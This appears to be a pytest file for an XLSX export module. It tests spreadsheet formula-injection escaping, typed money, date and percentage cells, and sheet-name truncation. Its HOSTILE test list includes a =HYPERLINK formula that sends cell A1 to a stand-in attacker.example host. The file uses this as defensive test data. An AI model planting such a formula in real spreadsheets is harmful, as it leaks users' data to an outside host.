"""The XLSX export (cxgov.io.export): opened again with openpyxl, as a spreadsheet would read it."""

from __future__ import annotations

import io
import zipfile
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from cxgov.io.export import Column, Sheet, euros, formula_safe, to_xlsx

HOSTILE = [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Details")',
    "+31 20 123",
    "-2+3",
    "@SUM(A1)",
    "\tTab",
    "\rCR",
    "\nLF",
    "\0NUL",
]
COLUMNS = (
    Column("Initiative"),
    Column("Planned", "money"),
    Column("Target date", "date"),
    Column("Progress", "percent"),
    Column("Reason", wide=True),
    Column("When (UTC)", "moment"),
)


def _open(data: bytes):
    return load_workbook(io.BytesIO(data)).active


def _sheet(rows, language="en") -> Sheet:
    return Sheet("Initiatives", COLUMNS, rows, language)


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_starts_are_prefixed(text):
    assert formula_safe(text) == "'" + text
    assert formula_safe("Plain – €1.250 ë") == "Plain – €1.250 ë"
    assert formula_safe(12) == 12 and formula_safe(None) is None


def test_text_that_looks_like_a_formula_stays_text():
    rows = [(text, 0, None, 0, text, None) for text in HOSTILE]
    data = to_xlsx(_sheet(rows))
    sheet = _open(data)
    cells = [sheet.cell(row=r, column=c) for r in range(2, len(rows) + 2) for c in (1, 5)]
    assert all(cell.data_type == "s" for cell in cells), "every hostile cell is a string, never a formula"
    assert all(str(cell.value).startswith("'") for cell in cells[:-2])  # NUL: stored escaped, still prefixed
    assert sheet.cell(row=2, column=1).value == "'" + HOSTILE[0]
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        xml = package.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml, "no formula anywhere in the file"


def test_headers_money_dates_and_percentages_are_typed():
    moment = datetime(2026, 11, 3, 14, 5, 9, tzinfo=UTC)
    row = ("B1 invoices", euros(123_456), date(2026, 3, 5), 40, None, moment)
    sheet = _open(to_xlsx(_sheet([row], language="nl")))
    assert [c.value for c in sheet[1]] == [c.header for c in COLUMNS]
    title, planned, target, progress, reason, when = sheet[2]
    assert title.value == "B1 invoices" and title.data_type == "s"
    assert planned.value == pytest.approx(1234.56) and "€" in planned.number_format  # euros, not cents
    assert target.value == datetime(2026, 3, 5) and target.number_format == "dd-mm-yyyy"
    assert progress.value == pytest.approx(0.4) and progress.number_format == "0%"
    assert reason.value is None  # empty stays empty, not "None" or "nan"
    assert when.value == datetime(2026, 11, 3, 14, 5, 9)  # UTC, as Excel has no time zones
    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref == "A1:F2"


def test_english_dates_and_a_long_sheet_name():
    data = to_xlsx(Sheet("Audit log: [all] events of the whole year", COLUMNS[:3], [("x", 0, date(2026, 3, 5))]))
    workbook = load_workbook(io.BytesIO(data))
    assert workbook.sheetnames == ["Audit log_ _all_ events of the "]  # Excel's limits, not an error
    assert workbook.active["C2"].number_format == "d mmm yyyy"


def test_exact_euros():
    assert euros(1) == Decimal("0.01") and euros(-250_075) == Decimal("-2500.75")
    assert euros(2_147_483_648_00) == Decimal("2147483648")
